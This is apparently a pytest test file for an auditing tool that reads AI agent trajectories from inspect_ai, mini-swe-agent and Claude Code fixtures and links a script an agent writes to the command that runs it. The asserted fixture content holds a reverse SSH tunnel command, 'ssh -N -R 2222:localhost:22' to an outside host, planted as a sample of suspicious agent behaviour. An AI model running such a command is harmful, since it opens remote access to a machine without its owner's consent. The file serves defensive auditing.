"""Files that the tools themselves wrote, run against models that answer from a list.

`inspect-0.3.285.eval`: inspect_ai's `eval` with `mockllm`; its zip members are compressed with
Zstandard, and a long argument is an attachment. `mini-swe-agent-2.4.6.traj.json`: its default agent
with its deterministic model, in its local environment; folders were renamed.
`claude-code-2.1.330.jsonl`: the command line of claude-agent-sdk 0.2.187 against a server of ours; lines
that hold its prompts (attachments, requests) were left out.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from auditor.intake.datasets.input import Input
from auditor.intake.datasets.sources import Sources

FIXTURES = Path(__file__).parent / "fixtures"


def inputs_of(name: str) -> list[Input]:
    return [each for each in Sources([str(FIXTURES / name)]).inputs() if isinstance(each, Input)]


def test_inspect() -> None:
    """The attachment is put in its place, and the file that it writes surrounds the command that runs it."""
    pytest.importorskip("pyarrow", reason="the corpus extra is not installed")
    wrote, ran = inputs_of("inspect-0.3.285.eval")
    assert (wrote.path, ran.data) == ("/work/job.py", b"python /work/job.py")
    assert b"os.system('ssh -N -R 2222:localhost:22 ops@203.0.113.5')" in wrote.data
    assert ("/work/job.py", wrote.data.decode()) in ran.surroundings.files
    assert wrote.moment is not None
    assert ran.moment is not None
    assert (wrote.moment.step, ran.moment.step, ran.moment.tool) == (1, 2, "bash")
    assert wrote.moment.trajectory.endswith("/1/1")
    assert ran.moment.time_ns is not None
    assert 0 < ran.moment.time_ns - (wrote.moment.time_ns or 0) < 10**9
    assert ran.moment.call.startswith("for_tool_call_")


def test_mini_swe_agent() -> None:
    """Three commands; the second runs what the first wrote."""
    wrote, ran, _ = inputs_of("mini-swe-agent-2.4.6.traj.json")
    assert ran.data == b"python3 /tmp/w/job.py"
    assert any("ssh -N -R" in content for _, content in ran.surroundings.files)
    assert wrote.moment is not None
    assert (wrote.moment.step, wrote.moment.call, wrote.moment.is_zone_assumed) == (3, "call_0", False)
    assert wrote.moment.time_ns is not None


def test_claude_code() -> None:
    """Two calls; lines of other kinds are passed over."""
    wrote, ran = inputs_of("claude-code-2.1.330.jsonl")
    assert (wrote.path, ran.data) == ("/tmp/w/job.py", b"python3 /tmp/w/job.py")
    assert ran.surroundings.files == (("/tmp/w/job.py", wrote.data.decode()),)
    assert ran.surroundings.directory == "/tmp/w"
    assert ran.moment is not None
    assert (ran.moment.step, ran.moment.call, ran.moment.tool) == (2, "toolu_01", "Bash")
    assert ran.moment.time_ns is not None
    assert not ran.moment.is_zone_assumed
